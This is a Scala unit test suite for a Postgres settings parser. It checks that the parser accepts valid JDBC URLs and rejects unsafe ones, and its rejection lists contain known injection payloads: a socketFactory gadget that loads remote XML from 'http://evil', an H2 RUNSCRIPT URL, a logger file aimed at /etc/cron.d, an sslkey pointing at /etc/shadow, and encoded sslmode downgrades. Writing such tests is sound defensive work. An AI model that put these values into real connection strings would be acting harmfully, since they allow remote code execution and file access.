package io.interlock.coordinator.postgres

import scala.concurrent.duration._

import io.interlock.coordinator.CoordinatorException

class PostgresSettingsSuite extends munit.FunSuite {
  private val secret = "hunter2"
  private val base = Map(
    "url" -> "jdbc:postgresql://db:5433/interlock",
    "user" -> "writer",
    "passwordVariable" -> "PATH"
  )

  private def read(changes: (String, String)*): PostgresSettings =
    PostgresSettings.of("main", (base ++ changes).filter(_._2.nonEmpty))

  private def refused(changes: (String, String)*): CoordinatorException = {
    val e = intercept[CoordinatorException](read(changes: _*))
    assertEquals(e.condition, "INTERLOCK_COORDINATOR_SETTING")
    assert(!e.getMessage.contains(secret), e.getMessage)
    e
  }

  private def url(parameters: String) = "url" -> s"jdbc:postgresql://db/interlock$parameters"

  test("defaults") {
    val found = read()
    assertEquals(found.place, "db:5433/interlock")
    assertEquals(found.poolSize, 4)
    assertEquals(found.statementTimeout, 30.seconds)
    assertEquals(found.lockTimeout, 10.seconds)
    assertEquals(found.idleTimeout, 10.minutes)
    assertEquals(found.unknownDeadline, 60.seconds)
    assertEquals(found.toString, "PostgresSettings(main, db:5433/interlock, writer)")
  }

  private val goodUrls = Seq(
    "jdbc:postgresql://db/interlock" -> "db:5432/interlock",
    "jdbc:postgresql://[::1]:6000/interlock" -> "[::1]:6000/interlock",
    "jdbc:postgresql://a,b:6000/interlock?targetServerType=primary" -> "a:5432,b:6000/interlock",
    "jdbc:postgresql://db/interlock?sslmode=verify-full&sslrootcert=/etc/ca.pem&connectTimeout=5" ->
      "db:5432/interlock"
  )

  goodUrls.foreach { case (text, place) =>
    test(s"taken: $text")(assertEquals(read("url" -> text).place, place))
  }

  private val refusedParameters = Seq(
    "socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
    "socketFactoryArg=http://evil/x.xml",
    "sslfactory=x.Y",
    "sslfactoryarg=x",
    "sslhostnameverifier=x.Y",
    "sslpasswordcallback=x.Y",
    "authenticationPluginClassName=x.Y",
    "xmlFactoryFactory=x.Y",
    "jaasLogin=true",
    "loggerFile=/etc/cron.d/x",
    "loggerLevel=TRACE",
    "options=-c%20search_path=evil",
    "currentSchema=evil",
    "service=evil",
    "sslkey=/etc/shadow",
    "localSocketAddress=1.2.3.4",
    "gssEncMode=require",
    "preferQueryMode=simple",
    s"password=$secret",
    s"user=$secret",
    s"$secret",
    "SSLMODE=disable",
    "ssl%6Dode=disable",
    "sslmode=%64isable",
    "sslrootcert=classpath:evil.pem",
    "connectTimeout=-1",
    "ApplicationName=a%00b",
    ""
  )

  refusedParameters.foreach { parameter =>
    test(s"refused: ?$parameter") {
      val e = refused(url(s"?sslmode=require&$parameter&ssl=true"))
      assertEquals(e.parameters("setting"), "spark.interlock.coordinator.main.url")
    }
  }

  private val refusedUrls = Seq(
    "jdbc:mysql://db/interlock",
    "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'",
    "jdbc:postgresql:interlock",
    "jdbc:postgresql:///interlock",
    s"jdbc:postgresql://writer:$secret@db/interlock",
    s"jdbc:postgresql://writer@db/interlock",
    "jdbc:postgresql://db:99999/interlock",
    "jdbc:postgresql://db/interlock/x",
    "jdbc:postgresql://db/inter%6Cock",
    "jdbc:postgresql://db/interlock#x",
    " jdbc:postgresql://db/interlock",
    ""
  )

  refusedUrls.foreach { text =>
    test(s"refused: $text") {
      assertEquals(refused("url" -> text).parameters("setting").split('.').last, "url")
    }
  }

  test("times have units and bounds") {
    assertEquals(read("lockTimeout" -> "250ms").lockTimeout, 250.millis)
    assertEquals(read("lockTimeout" -> "2 min").lockTimeout, 2.minutes)
    Seq("5", "5 sec", "-1s", "0s", "99ms", "2d", "1.5s", "x").foreach { text =>
      assert(refused("lockTimeout" -> text).parameters("setting").endsWith(".lockTimeout"), text)
    }
  }

  test("the pool has 1 to 64 connections") {
    Seq("0", "65", "x").foreach(text => refused("poolSize" -> text))
    assertEquals(read("poolSize" -> "64").poolSize, 64)
  }

  test("an unknown setting is named, and a password is told where it belongs") {
    assert(refused("statmentTimeout" -> "1s").parameters("problem").contains("statementTimeout"))
    val e = refused("password" -> secret)
    assertEquals(e.parameters("setting"), "spark.interlock.coordinator.main.password")
    assert(e.parameters("problem").contains("by file"))
  }

  test("there is exactly one source of the password") {
    refused("passwordVariable" -> "")
    refused("passwordFile" -> "/x")
  }

  test("options of the command line are named as such") {
    val e = intercept[CoordinatorException](PostgresSettings.ofOptions(base - "passwordVariable"))
    assertEquals(e.parameters("setting"), "--password-file")
  }
}
